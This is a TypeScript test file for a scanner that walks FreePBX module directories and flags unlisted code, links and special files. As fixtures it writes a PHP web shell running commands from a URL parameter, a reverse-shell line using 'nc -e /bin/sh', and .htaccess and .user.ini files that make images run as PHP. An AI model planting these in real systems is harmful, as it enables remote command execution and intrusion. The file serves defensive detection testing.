import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, mkdir, mkdtemp, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { ConfinedOpener } from '../../../src/fs/confined-open.js';
import { KNOWN_RULE } from '../../../src/unlisted/known-files.js';
import type { KnownFile } from '../../../src/unlisted/known-files.js';
import { EXECUTABLE_NOTE, REASON, SPECIAL_FILE_NOTE } from '../../../src/unlisted/policy.js';
import { WALK_LIMITS, walkModule } from '../../../src/unlisted/walk.js';
import type { WalkLimits, WalkResult } from '../../../src/unlisted/walk.js';

const RUNNING_AS_ROOT = process.getuid?.() === 0;
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);
const SHELL = '<?php system($_GET["c"]);\n';

// The temporary directory (real path), and the same without its leading "/" (paths are relative to root "/").
let temp = '';
let tempRel = '';

async function put(path: string, content: string | Buffer = '', mode?: number): Promise<void> {
  const full = join(temp, path);
  await mkdir(dirname(full), { recursive: true });
  await writeFile(full, content);
  if (mode !== undefined) await chmod(full, mode);
}

async function link(path: string, target: string): Promise<void> {
  await mkdir(dirname(join(temp, path)), { recursive: true });
  await symlink(target, join(temp, path));
}

function sha256(content: string | Buffer): string {
  return createHash('sha256').update(content).digest('hex');
}

interface WalkOptions {
  readonly listed?: readonly string[];
  readonly known?: readonly KnownFile[];
  /** Real directory to confine to (default: the whole temporary directory). */
  readonly confine?: string;
  /** Real root (default "/"); `dir` is then relative to it. */
  readonly root?: string;
  readonly limits?: Partial<WalkLimits>;
}

/** Walks temp/<dir> as module `module`. */
function walk(module: string, dir: string, options: WalkOptions = {}): WalkResult {
  const root = options.root ?? '/';
  const confine = options.confine ?? temp;
  const fromRoot = root === '/' ? `${tempRel}/${dir}` : join(temp, dir).slice(root.length + 1);
  return walkModule(
    {
      run: 'test-run',
      root,
      confine,
      module,
      dir: fromRoot,
      listed: options.listed ?? [],
      ...(options.known ? { known: options.known } : {}),
    },
    new ConfinedOpener(root, confine),
    { ...WALK_LIMITS, ...options.limits },
  );
}

const paths = (list: ReadonlyArray<{ path: string }>): string[] => list.map((f) => f.path);

before(async () => {
  temp = await realpath(await mkdtemp(join(tmpdir(), 'pbxsig-walk-')));
  tempRel = temp.slice(1);
});

after(async () => {
  if (temp !== '') await rm(temp, { recursive: true, force: true });
});

describe('walkModule', () => {
  describe('when a module directory holds listed and unlisted files', () => {
    const LISTED = ['module.xml', 'Core.class.php', 'views/main.php', 'assets/js/core.js', 'bin/listed-tool'];
    let result: WalkResult;
    before(async () => {
      const m = 'mixed/core';
      await put(`${m}/module.sig`, '-----BEGIN PGP SIGNED MESSAGE-----\n');
      await put(`${m}/module.xml`, '<module/>');
      await put(`${m}/Core.class.php`, '<?php');
      await put(`${m}/views/main.php`, '<?php');
      await put(`${m}/assets/js/core.js`, '//');
      await put(`${m}/bin/listed-tool`, '#!/bin/sh', 0o755);
      // What a compromise leaves.
      await put(`${m}/shell.php`, SHELL);
      await put(`${m}/images/photo.php.jpg`, SHELL);
      await put(`${m}/views/.htaccess`, 'AddType application/x-httpd-php .jpg');
      await put(`${m}/views/.user.ini`, 'auto_prepend_file=/tmp/x');
      await put(`${m}/bin/backdoor`, '#!/bin/sh\nnc -e /bin/sh host 4444\n', 0o644);
      await put(`${m}/bin/helper`, '#!/bin/sh\n', 0o755);
      await put(`${m}/bin/tool`, ELF, 0o755);
      await put(`${m}/assets/less/cache/x.php`, SHELL);
      // Harmless: an ELF with an extension and no execute bit, a mode-755 log, docs, translations.
      await put(`${m}/bin/data-elf.bin`, ELF, 0o644);
      await put(`${m}/debug.log`, 'plain text', 0o755);
      await put(`${m}/README.md`, '# core');
      await put(`${m}/LICENSE`, 'GPL');
      await put(`${m}/.gitattributes`, '* text=auto');
      await put(`${m}/i18n/de_DE/LC_MESSAGES/core.po`, 'msgid ""');
      await put(`${m}/i18n/de_DE/LC_MESSAGES/core.mo`, '\u0000');
      // What npm installs at run time, and what has no business there.
      await put(`${m}/node_modules/pm2/index.js`, 'module.exports = 1;');
      await put(`${m}/node_modules/pm2/bin/pm2.sh`, '#!/bin/sh');
      await put(`${m}/node_modules/.bin/pm2`, '#!/usr/bin/env node', 0o755);
      await put(`${m}/node_modules/native/addon.node`, ELF, 0o755);
      await put(`${m}/node_modules/evil/x.php`, '<?php');
      await put(`${m}/node_modules/pkg/.user.ini`, 'auto_prepend_file=/tmp/x');
      await put(`${m}/assets/less/cache/lessphp_1.css`, 'body{}');
      await mkdir(join(temp, m, 'empty-dir'), { recursive: true });
      result = walk('core', m, { listed: LISTED });
    });

    it('reports the unlisted code, sorted by path, each with its reason and SHA-256', () => {
      assert.deepEqual(result.code, [
        { path: 'assets/less/cache/x.php', reason: REASON.php, sha256: sha256(SHELL) },
        { path: 'bin/backdoor', reason: REASON.shebang, sha256: sha256('#!/bin/sh\nnc -e /bin/sh host 4444\n') },
        { path: 'bin/helper', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
        { path: 'bin/tool', reason: REASON.elf, sha256: sha256(ELF) },
        { path: 'images/photo.php.jpg', reason: REASON.phpInner, sha256: sha256(SHELL) },
        { path: 'node_modules/evil/x.php', reason: REASON.php, sha256: sha256('<?php') },
        { path: 'node_modules/pkg/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
        { path: 'shell.php', reason: REASON.php, sha256: sha256(SHELL) },
        { path: 'views/.htaccess', reason: REASON.htaccess, sha256: sha256('AddType application/x-httpd-php .jpg') },
        { path: 'views/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
      ]);
    });

    it('notes a mode-755 file that is neither script nor binary, and does not call it code', () => {
      assert.deepEqual(result.notes, [{ path: 'debug.log', reason: EXECUTABLE_NOTE }]);
    });

    it('does not report listed files, even an executable one, nor module.sig', () => {
      const reported = [...paths(result.code), ...paths(result.notes), ...result.otherSample];
      for (const path of [...LISTED, 'module.sig']) assert.ok(!reported.includes(path), path);
    });

    it('counts node_modules/ scripts, binaries and executables and the LESS cache as run-time files', () => {
      // pm2/index.js, pm2/bin/pm2.sh, .bin/pm2, native/addon.node, assets/less/cache/lessphp_1.css
      assert.equal(result.runtime, 5);
    });

    it('counts the other files and samples them', () => {
      const expected = [
        '.gitattributes',
        'LICENSE',
        'README.md',
        'bin/data-elf.bin',
        'debug.log',
        'i18n/de_DE/LC_MESSAGES/core.mo',
        'i18n/de_DE/LC_MESSAGES/core.po',
      ];
      assert.equal(result.other, expected.length);
      assert.deepEqual([...result.otherSample].sort(), expected);
    });

    it('walks it whole, with nothing known and no links', () => {
      assert.equal(result.error, undefined);
      assert.deepEqual(result.notWalked, []);
      assert.deepEqual(result.allowed, []);
      assert.deepEqual(result.links, []);
    });
  });

  describe('when nothing is listed', () => {
    it('reports the code a manifest would have listed too, but never module.sig', async () => {
      await put('bare/x/module.sig', 'sig');
      await put('bare/x/index.php', '<?php');
      await put('bare/x/module.xml', '<module/>');
      const result = walk('x', 'bare/x');
      assert.deepEqual(paths(result.code), ['index.php']);
      assert.deepEqual(result.otherSample, ['module.xml']);
    });
  });

  describe('when a module holds files known by module, path and content', () => {
    const STOCK_TEST = '<?php class AstmanTest {}\n';
    const SITE_FILE = '<?php // local tool\n';
    // The real stock list knows utests/genaccts.php by a digest; these stand in for stock content.
    const known: KnownFile[] = [
      { module: 'framework', path: 'utests/AstmanTest.php', sha256: sha256(STOCK_TEST), source: 'stock' },
      { module: 'framework', path: 'tools/local.php', sha256: sha256(SITE_FILE).toUpperCase(), source: 'site' },
      { module: 'core', path: 'utests/Other.php', sha256: sha256(SITE_FILE), source: 'site' },
      { module: 'framework', path: 'utests/Broken.php', sha256: 'not-a-digest', source: 'site' },
    ];
    let result: WalkResult;
    before(async () => {
      const m = 'known/framework';
      await put(`${m}/module.xml`, '<module/>');
      await put(`${m}/utests/AstmanTest.php`, STOCK_TEST);
      await put(`${m}/tools/local.php`, SITE_FILE);
      await put(`${m}/utests/genaccts.php`, SHELL);
      await put(`${m}/utests/Evil.php`, SHELL);
      await put(`${m}/utests/sub/AstmanTest.php`, STOCK_TEST);
      await put(`${m}/utests/Other.php`, SITE_FILE);
      await put(`${m}/utests/Broken.php`, SITE_FILE);
      result = walk('framework', m, { listed: ['module.xml'], known });
    });

    it('shows each match as known, with its source, rule and digest', () => {
      assert.deepEqual(result.allowed, [
        { path: 'tools/local.php', rule: KNOWN_RULE.site, source: 'site', sha256: sha256(SITE_FILE) },
        { path: 'utests/AstmanTest.php', rule: KNOWN_RULE.stock, source: 'stock', sha256: sha256(STOCK_TEST) },
      ]);
    });

    it('reports a known path with other content as code, naming its digest', () => {
      const genaccts = result.code.find((f) => f.path === 'utests/genaccts.php');
      assert.equal(genaccts?.reason, `${REASON.php}; not the content known for this path: sha256 ${sha256(SHELL)}`);
    });

    it('reports every other unlisted code in that directory: another name, another depth, another module, a bad entry', () => {
      assert.deepEqual(paths(result.code), [
        'utests/Broken.php',
        'utests/Evil.php',
        'utests/Other.php',
        'utests/genaccts.php',
        'utests/sub/AstmanTest.php',
      ]);
    });

    it('does not know the same file in another module', async () => {
      await put('known/core/utests/AstmanTest.php', STOCK_TEST);
      const other = walk('core', 'known/core', { known });
      assert.deepEqual(other.allowed, []);
      assert.deepEqual(paths(other.code), ['utests/AstmanTest.php']);
    });
  });

  describe('when an unlisted link leads to a directory', () => {
    let result: WalkResult;
    before(async () => {
      await put('linked/outside/uploads/shell.php', SHELL);
      await put('linked/outside/uploads/photo.jpg', 'JFIF');
      await put('linked/outside/tool', '#!/bin/sh\n');
      await put('linked/outside/cycle/a/b/keep.txt', 'x');
      await link('linked/outside/cycle/a/b/up', '../..');
      await put('linked/modules/cdr/module.sig', 'sig');
      await put('linked/modules/cdr/ucp/Cdr.class.php', '<?php class Cdr {}');
      await put('linked/modules/_cache/module.sig', 'sig');
      await put('linked/modules/_cache/evil.php', SHELL);
      await put('linked/modules/nosig/evil.php', SHELL);
      const m = 'linked/modules/ucp';
      await put(`${m}/module.xml`, '<module/>');
      await put(`${m}/index.php`, '<?php');
      await put(`${m}/sub/notes.txt`, 'x');
      await link(`${m}/uploads`, '../../outside/uploads');
      await link(`${m}/uploads-again`, join(temp, 'linked/outside/uploads'));
      await link(`${m}/cycle`, '../../outside/cycle');
      await link(`${m}/self`, '.');
      await link(`${m}/alias-dir`, 'sub');
      await link(`${m}/up`, '..');
      await link(`${m}/htdocs/modules/Cdr`, '../../../cdr/ucp');
      await link(`${m}/to-cache`, '../_cache');
      await link(`${m}/to-nosig`, '../nosig');
      await link(`${m}/dangling.php`, 'nowhere.php');
      await link(`${m}/dangling.txt`, 'nowhere.txt');
      await link(`${m}/entry.php`, 'index.php');
      // A PHP name for this module's own listed text: the web server would run signed text as PHP.
      await put(`${m}/readme.txt`, SHELL);
      await link(`${m}/readme.php`, 'readme.txt');
      await link(`${m}/runme`, '../../outside/tool');
      // PHP hidden in another module's text file, run through a link with a PHP name.
      await put('linked/modules/cdr/notes.txt', SHELL);
      await link(`${m}/run.php`, '../cdr/notes.txt');
      result = walk('ucp', m, { listed: ['module.xml', 'index.php', 'readme.txt'] });
    });

    it('walks it and judges its contents under the link name', () => {
      const shells = paths(result.code).filter((p) => p.endsWith('/shell.php'));
      assert.equal(shells.length, 1, shells.join(', '));
      assert.match(shells[0] ?? '', /^uploads(-again)?\/shell\.php$/);
    });

    it('walks a directory reached twice only once, and says so', () => {
      const uploads = result.links.filter((l) => l.path.startsWith('uploads'));
      assert.deepEqual(uploads.map((l) => l.outcome).sort(), ['seen', 'walked']);
      assert.equal(uploads[0]?.target, join(temp, 'linked/outside/uploads'));
    });

    it('ends a cycle through links', () => {
      assert.deepEqual(
        result.links.filter((l) => l.path.startsWith('cycle')).map((l) => [l.path, l.outcome]),
        [
          ['cycle', 'walked'],
          ['cycle/a/b/up', 'seen'],
        ],
      );
    });

    it('does not walk again a directory of the module itself', () => {
      const outcome = (path: string): string | undefined => result.links.find((l) => l.path === path)?.outcome;
      assert.equal(outcome('self'), 'inside');
      assert.equal(outcome('alias-dir'), 'inside');
      assert.ok(!result.otherSample.some((p) => p.startsWith('alias-dir/') || p.startsWith('self/')));
    });

    it("leaves another module's directory to that module (ucp's htdocs/modules/<Name> links)", () => {
      assert.equal(result.links.find((l) => l.path === 'htdocs/modules/Cdr')?.outcome, 'module');
      assert.ok(!paths(result.code).some((p) => p.startsWith('htdocs/')));
    });

    it('walks a sibling that is not a module: no module.sig, or a name FreePBX skips (_cache)', () => {
      assert.ok(paths(result.code).includes('to-cache/evil.php'));
      assert.ok(paths(result.code).includes('to-nosig/evil.php'));
    });

    it('fails on a link to a directory that holds the module (a loop)', () => {
      const up = result.notWalked.find((f) => f.path === 'up');
      assert.match(up?.reason ?? '', /holds the module \(a loop\): not walked$/);
    });

    it('judges a link to a file by its name and by what it leads to', () => {
      assert.ok(paths(result.code).includes('dangling.php'), 'a dangling link with a PHP name');
      assert.ok(result.otherSample.includes('dangling.txt'));
      assert.ok(result.otherSample.includes('entry.php'), 'another name for a listed file');
      assert.ok(paths(result.code).includes('readme.php'), 'a PHP name for a listed text file');
      assert.deepEqual(
        result.code.find((f) => f.path === 'runme'),
        { path: 'runme', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
      );
      assert.ok(paths(result.code).includes('run.php'), "a PHP name for another module's text file");
    });

    it('fails on nothing else', () => {
      assert.deepEqual(paths(result.notWalked), ['up']);
    });
  });

  describe('when a module holds a FIFO, a socket or a link to one', () => {
    let result: WalkResult;
    before(async () => {
      await put('special/module.xml', '<module/>');
      execFileSync('mkfifo', [join(temp, 'special/pipe'), join(temp, 'special/shell.php')]);
      const server = createServer();
      await new Promise<void>((resolve) => server.listen(join(temp, 'special/listening'), resolve));
      await link('special/to-pipe', 'pipe');
      await put('special/node_modules/x/pipe-dir/.keep');
      execFileSync('mkfifo', [join(temp, 'special/node_modules/x/fifo')]);
      result = walk('special', 'special', { listed: ['module.xml'] });
      await new Promise((resolve) => server.close(resolve));
    });

    it('notes each, never opening it, and calls one with a code name code', () => {
      assert.deepEqual(
        result.notes.map((f) => [f.path, f.reason]),
        [
          ['listening', SPECIAL_FILE_NOTE],
          ['pipe', SPECIAL_FILE_NOTE],
          ['to-pipe', SPECIAL_FILE_NOTE],
        ],
      );
      assert.deepEqual(paths(result.code), ['shell.php']);
      assert.deepEqual(paths(result.notWalked), []);
    });

    it('counts one in a run-time area as run-time', () => {
      assert.equal(result.runtime, 2);
    });
  });

  describe('when an unlisted link leaves the confinement or the root', () => {
    before(async () => {
      await put('confined/outside/uploads/shell.php', SHELL);
      await put('confined/modules/cdr/module.sig', 'sig');
      await put('confined/modules/cdr/ucp/Cdr.class.php', '<?php');
      const m = 'confined/modules/ucp';
      await put(`${m}/module.xml`, '<module/>');
      await link(`${m}/uploads`, '../../outside/uploads');
      await link(`${m}/file-out.txt`, '../../outside/uploads/shell.php');
      await link(`${m}/Cdr`, '../cdr/ucp');
      await put('confined/modules/cdr/notes.txt', SHELL);
      await link(`${m}/run.php`, '../cdr/notes.txt');
      await link(`${m}/notes.txt`, '../cdr/notes.txt');
    });

    it('fails on a link leaving the confinement (a module named on the command line), and does not follow it', () => {
      const moduleReal = join(temp, 'confined/modules/ucp');
      const result = walk('ucp', 'confined/modules/ucp', { confine: moduleReal, listed: ['module.xml'] });
      assert.deepEqual(result.notWalked, [
        {
          path: 'file-out.txt',
          reason: `symbolic link to ${join(temp, 'confined/outside/uploads/shell.php')}, outside ${moduleReal}: not followed`,
        },
        {
          path: 'uploads',
          reason: `symbolic link to ${join(temp, 'confined/outside/uploads')}, outside ${moduleReal}: not followed`,
        },
      ]);
      assert.equal(result.links.find((l) => l.path === 'Cdr')?.outcome, 'module');
      // Into another module, nothing is read: the link's name alone can make it code.
      assert.deepEqual(result.code, [{ path: 'run.php', reason: REASON.php }]);
      assert.ok(result.otherSample.includes('notes.txt'));
    });

    it('fails on a link climbing above the root, and resolves absolute links inside it', async () => {
      const root = join(temp, 'snapshot');
      await put('snapshot/srv/uploads/shell.php', SHELL);
      const m = 'snapshot/var/www/html/admin/modules/core';
      await put(`${m}/module.xml`, '<module/>');
      await link(`${m}/escape`, '../../../../../../../../../..');
      await link(`${m}/abs`, '/srv/uploads');
      const result = walk('core', m, { root, confine: root, listed: ['module.xml'] });
      assert.deepEqual(result.notWalked, [
        { path: 'escape', reason: 'symbolic link that cannot be followed: a symbolic link leads above the root' },
      ]);
      assert.deepEqual(result.code, [{ path: 'abs/shell.php', reason: REASON.php, sha256: sha256(SHELL) }]);
      assert.deepEqual(result.links, [{ path: 'abs', target: join(root, 'srv/uploads'), outcome: 'walked' }]);
    });
  });

  describe('when the walk reaches one of its bounds', () => {
    it('does not walk deeper than the depth bound, and says where', async () => {
      await put('deep/m/a/b/c/d/shell.php', SHELL);
      const result = walk('m', 'deep/m', { limits: { depth: 3 } });
      assert.deepEqual(result.notWalked, [
        { path: 'a/b/c/d', reason: 'more than 3 directory levels below the module: not walked' },
      ]);
      assert.deepEqual(result.code, []);
    });

    it('stops after the entry bound, and says so', async () => {
      for (let i = 0; i < 10; i++) await put(`many/m/doc-${i}.txt`, 'x');
      const result = walk('m', 'many/m', { limits: { entries: 5 } });
      assert.deepEqual(result.notWalked, [
        { path: '.', reason: 'more than 5 entries below the module: the walk stopped here' },
      ]);
      assert.equal(result.other, 5);
    });

    it('follows no more links to directories than the bound', async () => {
      await put('links/outside/a/x.txt', 'x');
      await put('links/outside/b/x.txt', 'x');
      await link('links/m/a', '../outside/a');
      await link('links/m/b', '../outside/b');
      const result = walk('m', 'links/m', { limits: { directoryLinks: 1 } });
      assert.equal(result.links.length, 1);
      assert.equal(result.notWalked.length, 1);
      assert.equal(result.notWalked[0]?.reason, 'more than 1 links to directories: not followed');
    });

    it('keeps at most the bound of findings in a list', async () => {
      for (let i = 0; i < 3; i++) await put(`capped/m/s${i}.php`, SHELL);
      assert.equal(walk('m', 'capped/m', { limits: { listed: 2 } }).code.length, 2);
    });

    it('gives unlisted code its SHA-256 only within its byte budget, and never for a file over 1 MiB', async () => {
      await put('hashed/m/a.php', SHELL);
      await put('hashed/m/big.php', Buffer.alloc(1024 * 1024 + 1, 0x20));
      assert.deepEqual(walk('m', 'hashed/m', { limits: { codeHashBytes: 0 } }).code, [
        { path: 'a.php', reason: REASON.php },
        { path: 'big.php', reason: REASON.php },
      ]);
      assert.deepEqual(walk('m', 'hashed/m').code, [
        { path: 'a.php', reason: REASON.php, sha256: sha256(SHELL) },
        { path: 'big.php', reason: REASON.php },
      ]);
    });

    it('fails on a directory whose path is longer than PATH_MAX', async () => {
      // No single call may name a path over PATH_MAX: build two halves, then move one into the other.
      const part = 'p'.repeat(200);
      const half = Array.from({ length: 12 }, () => part).join('/');
      await mkdir(join(temp, 'long/m', half), { recursive: true });
      await mkdir(join(temp, 'long/second', half), { recursive: true });
      await writeFile(join(temp, 'long/second', half, 'shell.php'), SHELL);
      await rename(join(temp, 'long/second'), join(temp, 'long/m', half, 'second'));
      try {
        const result = walk('m', 'long/m');
        assert.equal(result.notWalked.length, 1);
        assert.match(result.notWalked[0]?.reason ?? '', /PATH_MAX/);
        assert.ok(join(temp, 'long/m', result.notWalked[0]?.path ?? '').length >= 4096);
      } finally {
        await rename(join(temp, 'long/m', half, 'second'), join(temp, 'long/second'));
      }
    });
  });

  describe('when names are not plain text', () => {
    let result: WalkResult;
    before(async () => {
      const m = join(temp, 'names/m');
      await mkdir(m, { recursive: true });
      const bytes = (name: string | Buffer): Buffer =>
        Buffer.concat([Buffer.from(`${m}/`), typeof name === 'string' ? Buffer.from(name, 'latin1') : name]);
      await writeFile(bytes('sh\xff.php'), SHELL);
      await mkdir(bytes('d\xfe'));
      await writeFile(bytes('d\xfe/shell.php'), SHELL);
      await writeFile(bytes('d\xfe/run'), '#!/bin/sh\n');
      await symlink('/tmp', bytes('l\xfd'));
      await writeFile(join(m, 'new\nline.php'), SHELL);
      await writeFile(join(m, 'esc\u001b[31m.php'), SHELL);
      await writeFile(join(m, 'real\uFFFD.php'), SHELL);
      await writeFile(join(m, 'caf\u00e9.txt'), 'x');
      result = walk('m', 'names/m');
    });

    it('reports a name that is not UTF-8 as pbxsig reads module.sig (a byte not UTF-8 is U+EF00 + byte), with the exact bytes in hex', () => {
      assert.deepEqual(
        result.code.find((f) => f.path === 'sh\uefff.php'),
        {
          path: 'sh\uefff.php',
          reason: REASON.php,
          pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex'),
          sha256: sha256(SHELL),
        },
      );
    });

    it('walks into a directory whose name is not UTF-8, reading its files', () => {
      assert.deepEqual(
        result.code.filter((f) => f.path.startsWith('d\ueffe/')),
        [
          {
            path: 'd\ueffe/run',
            reason: REASON.shebang,
            pathHex: Buffer.from('d\xfe/run', 'latin1').toString('hex'),
            sha256: sha256('#!/bin/sh\n'),
          },
          {
            path: 'd\ueffe/shell.php',
            reason: REASON.php,
            pathHex: Buffer.from('d\xfe/shell.php', 'latin1').toString('hex'),
            sha256: sha256(SHELL),
          },
        ],
      );
    });

    it('does not follow a link whose name is not UTF-8, and fails on it', () => {
      assert.deepEqual(paths(result.notWalked), ['l\ueffd']);
    });

    it('keeps newlines, escape sequences and U+FFFD in names exact', () => {
      for (const path of ['new\nline.php', 'esc\u001b[31m.php', 'real\uFFFD.php']) {
        assert.deepEqual(
          result.code.find((f) => f.path === path),
          { path, reason: REASON.php, sha256: sha256(SHELL) },
          JSON.stringify(path),
        );
      }
      assert.deepEqual(result.otherSample, ['caf\u00e9.txt']);
    });
  });

  describe('when a directory or a file inside the module cannot be read', () => {
    it(
      'fails on the directory and on a file it must read, and walks the rest',
      {
        skip: RUNNING_AS_ROOT
          ? 'running as root: permission bits do not stop root (the e2e test runs the CLI as an unprivileged user)'
          : false,
      },
      async () => {
        await put('locked/m/readable.txt', 'x');
        await put('locked/m/private/secret.php', SHELL);
        await put('locked/m/sealed', '#!/bin/sh\n', 0o000);
        await chmod(join(temp, 'locked/m/private'), 0o000);
        try {
          const result = walk('m', 'locked/m');
          assert.deepEqual(paths(result.notWalked), ['private', 'sealed']);
          assert.match(result.notWalked[0]?.reason ?? '', /^directory cannot be read: /);
          assert.match(result.notWalked[1]?.reason ?? '', /^cannot be read to tell whether it is code: /);
          assert.deepEqual(result.otherSample, ['readable.txt']);
        } finally {
          await chmod(join(temp, 'locked/m/private'), 0o755);
        }
      },
    );
  });

  describe('when the module directory is a symbolic link to a directory', () => {
    it('walks the directory it leads to', async () => {
      await put('via/real/shell.php', SHELL);
      await link('via/link', 'real');
      assert.deepEqual(walk('link', 'via/link').code, walk('real', 'via/real').code);
    });
  });

  describe('when the module directory cannot be walked', () => {
    it('gives an error and nothing else when it does not exist', () => {
      const result = walk('gone', 'nowhere/gone');
      assert.match(result.error ?? '', /does not exist/);
      assert.deepEqual(
        { ...result, error: '' },
        {
          error: '',
          code: [],
          allowed: [],
          runtime: 0,
          other: 0,
          otherSample: [],
          notWalked: [],
          notes: [],
          links: [],
        },
      );
    });

    it('gives an error when it is a file', async () => {
      await put('afile/not-a-dir', 'x');
      assert.match(walk('not-a-dir', 'afile/not-a-dir').error ?? '', /not a directory/);
    });
  });
});
